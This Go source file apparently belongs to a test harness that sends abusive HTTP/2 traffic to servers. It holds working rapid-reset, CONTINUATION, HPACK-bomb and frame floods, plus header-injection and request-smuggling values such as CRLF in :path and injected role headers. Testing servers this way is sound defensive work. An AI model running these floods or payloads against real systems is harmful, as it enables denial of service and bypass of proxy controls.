package rawh2

import (
	"bytes"
	"fmt"
	"maps"
	"slices"
	"strings"

	"golang.org/x/net/http2"
)

// Abuse is the closed set of what can be said that should not be.
type Abuse string

// Floods: each is cheap to send and dear to take.
const (
	RapidReset    Abuse = "streams that are reset at once"
	Continuation  Abuse = "a head that never ends"
	HPACKBomb     Abuse = "a head that unpacks to megabytes"
	CookieBomb    Abuse = "a cookie in ten thousand crumbs"
	PingFlood     Abuse = "pings without end"
	SettingsFlood Abuse = "settings without end"
	EmptyData     Abuse = "empty data without end"
	PriorityFlood Abuse = "priorities without end"
)

// Heads that no server may take (RFC 9113, 8.2 and 8.3).
const (
	NoPath           Abuse = "no :path"
	EmptyPath        Abuse = "an empty :path"
	TwoPaths         Abuse = "two :paths"
	TwoAuthorities   Abuse = "two :authorities"
	UnknownPseudo    Abuse = "a pseudo-header of its own"
	StatusOfRequest  Abuse = "a :status in a request"
	LatePseudo       Abuse = ":path after a header"
	UpperCase        Abuse = "a name in capitals"
	LineFeedInValue  Abuse = "a line feed in a value"
	ReturnInValue    Abuse = "a carriage return in a value"
	NULInValue       Abuse = "a NUL in a value"
	ColonInName      Abuse = "a colon in a name"
	LineFeedInPath   Abuse = "a line feed in :path"
	SpaceInMethod    Abuse = "a request line in :method"
	Chunked          Abuse = "transfer-encoding"
	ConnectionHeader Abuse = "a connection header"
	TwoLengths       Abuse = "two lengths"
	LengthOfNothing  Abuse = "a length and no data"
	EvenStream       Abuse = "a stream of the server's"
	StreamZero       Abuse = "data on stream 0"
	HugeFrame        Abuse = "a frame larger than agreed"
	OverflownWindow  Abuse = "a window that overflows"
)

// What is well formed and must still lead nowhere else.
const (
	// HostBesideIt says the first host in a line of its own.
	HostBesideIt Abuse = "a host beside :authority"
	// SecondHost asks for the request's host on a connection that the first
	// stream used for another.
	SecondHost Abuse = "another host on the second stream"
	// Plain is no abuse: the request by itself, as a control of this package.
	Plain Abuse = "nothing wrong"
)

// Abuses is the whole vocabulary, in order.
func Abuses() []Abuse { return slices.Sorted(maps.Keys(scripts())) }

// script says its abuse until it is done or the connection has ended. An error
// is one of writing.
type script func(s *speaker, r Request) error

// Every flood is bounded: what is still served after so many frames is not cut
// short.
const (
	floodFrames = 20_000
	floodBlocks = 2_000
	// floodAnswers is how many frames ask for an answer that nobody reads. A relay
	// on the way holds megabytes of answers, so that the server's queue grows only
	// where it has read much at once. Of 60,000 frames one in thirty floods never
	// had it do so, on a busy machine, and was not cut.
	floodAnswers = 300_000
)

// deaf says of an abuse that it reads nothing while it writes. A server's queue of
// answers grows without end only then; one that is quick, and is read from, keeps
// it short, and has no reason to cut such a flood (CVE-2019-9512, CVE-2019-9515).
func (a Abuse) deaf() bool { return a == PingFlood || a == SettingsFlood }

func scripts() map[Abuse]script {
	all := map[Abuse]script{
		Plain: head(func(fields []Field) []Field { return fields }),

		RapidReset: rapidReset, Continuation: endlessHead, HPACKBomb: packedHead, CookieBomb: crumbs,
		PingFlood:     flood(floodAnswers, func(f *http2.Framer) error { return f.WritePing(false, [8]byte{1}) }),
		SettingsFlood: flood(floodAnswers, func(f *http2.Framer) error { return f.WriteSettings() }),
		PriorityFlood: flood(floodFrames, func(f *http2.Framer) error { return f.WritePriority(3, http2.PriorityParam{Weight: 1}) }),
		EmptyData:     emptyData,

		EvenStream: func(s *speaker, r Request) error { return s.ask(2, pseudo(r), true) },
		StreamZero: func(s *speaker, _ Request) error { return s.framer.WriteData(0, true, []byte("x")) },
		HugeFrame: func(s *speaker, r Request) error {
			if err := s.ask(1, pseudo(r), false); err != nil {
				return err
			}
			return s.framer.WriteRawFrame(http2.FrameData, 0, 1, make([]byte, 1<<20+1))
		},
		OverflownWindow: func(s *speaker, r Request) error {
			if err := s.ask(1, pseudo(r), false); err != nil {
				return err
			}
			return s.framer.WriteWindowUpdate(0, 1<<31-1)
		},
		HostBesideIt: func(s *speaker, r Request) error {
			return s.ask(1, append(pseudo(r), Field{"host", r.First}), true)
		},
		SecondHost: func(s *speaker, r Request) error {
			first := r
			first.Host, first.Mark = r.First, nil
			if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.block(pseudo(first)), EndHeaders: true, EndStream: true}); err != nil {
				return err
			}
			return s.ask(3, pseudo(r), true)
		},
	}
	maps.Copy(all, heads())
	return all
}

// heads are those that differ from a request in their fields alone.
func heads() map[Abuse]script {
	add := func(name, value string) script {
		return head(func(fields []Field) []Field { return append(fields, Field{name, value}) })
	}
	before := func(name, value string) script {
		return head(func(fields []Field) []Field { return append([]Field{{name, value}}, fields...) })
	}
	set := func(name, value string) script {
		return head(func(fields []Field) []Field {
			for i := range fields {
				if fields[i].Name == name {
					fields[i].Value += value
				}
			}
			return fields
		})
	}
	without := func(name string) script {
		return head(func(fields []Field) []Field {
			return slices.DeleteFunc(fields, func(f Field) bool { return f.Name == name })
		})
	}
	return map[Abuse]script{
		NoPath: without(":path"), TwoPaths: before(":path", "/ratings/0"), TwoAuthorities: before(":authority", "ratings.bookinfo"),
		EmptyPath: head(func(fields []Field) []Field {
			fields[slices.IndexFunc(fields, func(f Field) bool { return f.Name == ":path" })].Value = ""
			return fields
		}),
		UnknownPseudo: before(":role", "admin"), StatusOfRequest: before(":status", "200"),
		LatePseudo: head(func(fields []Field) []Field {
			at := slices.IndexFunc(fields, func(f Field) bool { return f.Name == ":path" })
			late := fields[at]
			return append(slices.Delete(fields, at, at+1), late)
		}),
		UpperCase: add("X-Role", "admin"), LineFeedInValue: add("x-role", "a\nx-admin: b"), ReturnInValue: add("x-role", "a\rb"),
		NULInValue: add("x-role", "a\x00b"), ColonInName: add("x-role: admin\r\nx", "b"),
		LineFeedInPath: set(":path", " HTTP/1.1\r\nhost: ratings.bookinfo\r\n\r\n"), SpaceInMethod: set(":method", " /ratings/0 HTTP/1.1\r\n\r\n"),
		Chunked: add("transfer-encoding", "chunked"), ConnectionHeader: add("connection", "upgrade"),
		TwoLengths: head(func(fields []Field) []Field {
			return append(fields, Field{"content-length", "4"}, Field{"content-length", "5"})
		}),
		LengthOfNothing: add("content-length", "5"),
	}
}

// pseudo are the fields of a request, in the order that RFC 9113 wants.
func pseudo(r Request) []Field {
	return slices.Concat([]Field{{":method", r.Method}, {":scheme", "https"}, {":authority", r.Host}, {":path", r.Target}}, r.Header, r.Mark)
}

// ask sends a request on the marked stream.
func (s *speaker) ask(stream uint32, fields []Field, end bool) error {
	s.mark(stream)
	s.sent()
	if err := s.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: s.block(fields), EndHeaders: true, EndStream: end,
	}); err != nil {
		return fmt.Errorf("write a head: %w", err)
	}
	return nil
}

func head(change func([]Field) []Field) script {
	return func(s *speaker, r Request) error { return s.ask(1, change(pseudo(r)), true) }
}

// floodBurst is how many frames leave in one write. One by one a quick server
// would answer them one by one, and its queue of answers would never grow: that
// is no flood.
const floodBurst = 2_000

// flood repeats a frame, and then asks: whoever still answers took them all.
func flood(frames int, write func(*http2.Framer) error) script {
	return func(s *speaker, r Request) error {
		var burst bytes.Buffer
		framer := http2.NewFramer(&burst, nil)
		for range floodBurst {
			if err := write(framer); err != nil {
				return err
			}
		}
		for sent := 0; sent < frames && !s.ended(); sent += floodBurst {
			for range floodBurst {
				s.sent()
			}
			if _, err := s.conn.Write(burst.Bytes()); err != nil {
				return fmt.Errorf("write %d frames: %w", floodBurst, err)
			}
		}
		if s.ended() {
			return nil
		}
		return s.ask(1, pseudo(r), true)
	}
}

// rapidReset asks for no answer: only the end of the connection counts.
func rapidReset(s *speaker, r Request) error {
	r.Mark = nil
	stream := uint32(1)
	for range floodFrames {
		if s.ended() {
			return nil
		}
		s.sent()
		if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: s.block(pseudo(r)), EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		if err := s.framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return err
		}
		stream += 2
	}
	return nil
}

func emptyData(s *speaker, r Request) error {
	if err := s.ask(1, pseudo(r), false); err != nil {
		return err
	}
	for range floodFrames {
		if s.ended() {
			return nil
		}
		s.sent()
		if err := s.framer.WriteData(1, false, nil); err != nil {
			return err
		}
	}
	return s.framer.WriteData(1, true, nil)
}

func endlessHead(s *speaker, r Request) error {
	s.mark(1)
	if err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.block(pseudo(r))}); err != nil {
		return err
	}
	for i := range floodBlocks {
		if s.ended() {
			return nil
		}
		s.sent()
		more := []Field{{fmt.Sprintf("x-more-%d", i), strings.Repeat("a", 4000)}}
		if err := s.framer.WriteContinuation(1, false, s.block(more)); err != nil {
			return err
		}
	}
	return s.framer.WriteContinuation(1, true, nil)
}

// packedHead puts one large field into the table that both sides keep, and
// then names it again and again, by one byte each.
func packedHead(s *speaker, r Request) error {
	large := Field{"x-large", strings.Repeat("a", 3900)}
	fields := pseudo(r)
	for range floodBlocks {
		fields = append(fields, large)
	}
	return s.ask(1, fields, true)
}

func crumbs(s *speaker, r Request) error {
	fields := pseudo(r)
	for range 5 * floodBlocks {
		fields = append(fields, Field{"cookie", "a=b"})
	}
	return s.ask(1, fields, true)
}
